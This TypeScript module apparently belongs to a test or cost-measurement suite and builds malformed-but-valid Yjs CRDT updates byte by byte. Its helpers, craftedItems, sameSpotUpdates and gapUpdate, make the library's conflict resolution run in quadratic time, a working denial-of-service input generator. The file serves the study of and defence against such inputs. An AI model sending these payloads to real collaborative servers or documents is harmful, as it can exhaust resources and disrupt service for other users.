import * as encoding from "lib0/encoding";
import * as Y from "yjs";

/**
 * Updates that stay within every struct and message limit but make Yjs's conflict
 * resolution quadratic. Built byte by byte: no honest client would send them.
 */

/** One-character string items of `client` from clock `from`, each with its own anchors. */
export function craftedItems(
  client: number,
  from: number,
  n: number,
  origin: (j: number) => [number, number] | null,
  rightOrigin: (j: number) => [number, number] | null,
  parent = "t",
): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1);
  encoding.writeVarUint(e, n);
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, from);
  for (let j = 0; j < n; j++) {
    const o = origin(j);
    const r = rightOrigin(j);
    // info: origin bit, right-origin bit, content ref 4 (string); see updateCost.ts.
    encoding.writeUint8(e, (o ? 0b1000_0000 : 0) | (r ? 0b0100_0000 : 0) | 4);
    for (const id of [o, r]) {
      if (id) {
        encoding.writeVarUint(e, id[0]);
        encoding.writeVarUint(e, id[1]);
      }
    }
    if (!o && !r) {
      encoding.writeVarUint(e, 1); // parent is a root type, by name
      encoding.writeVarString(e, parent);
    }
    encoding.writeVarString(e, "x");
  }
  encoding.writeVarUint(e, 0); // no deletions
  return encoding.toUint8Array(e);
}

/** A text "LR" from client 1: the two anchors the attacks aim between. */
export function anchorText(): Uint8Array {
  const doc = new Y.Doc();
  doc.clientID = 1;
  doc.getText("t").insert(0, "LR");
  return Y.encodeStateAsUpdate(doc);
}

/**
 * `n` items between L and R, each from a new client id above the last (`firstClient` on):
 * every later one passes all the earlier ones. Sent as updates of `perUpdate`, the k-th
 * update costs about k · perUpdate² steps.
 */
export function sameSpotUpdates(firstClient: number, n: number, perUpdate: number): Uint8Array[] {
  const updates: Uint8Array[] = [];
  for (let start = 0; start < n; start += perUpdate) {
    const parts: Uint8Array[] = [];
    for (let j = start; j < Math.min(n, start + perUpdate); j++) {
      parts.push(
        craftedItems(
          firstClient + j,
          0,
          1,
          () => [1, 0],
          () => [1, 1],
        ),
      );
    }
    updates.push(Y.mergeUpdates(parts));
  }
  return updates;
}

/**
 * One update: a run of `n` characters from `client` between L and R, then `n` items from the
 * same client anchored at L, each claiming a point further into that run as its right: each
 * passes the run up to there and everything placed before it (about n²/2 steps in all).
 */
export function gapUpdate(client: number, n: number): Uint8Array {
  return craftedItems(
    client,
    0,
    2 * n,
    (j) => (j === 0 || j >= n ? [1, 0] : [client, j - 1]),
    (j) => (j < n ? [1, 1] : [client, 2 * n - 1 - j]),
  );
}
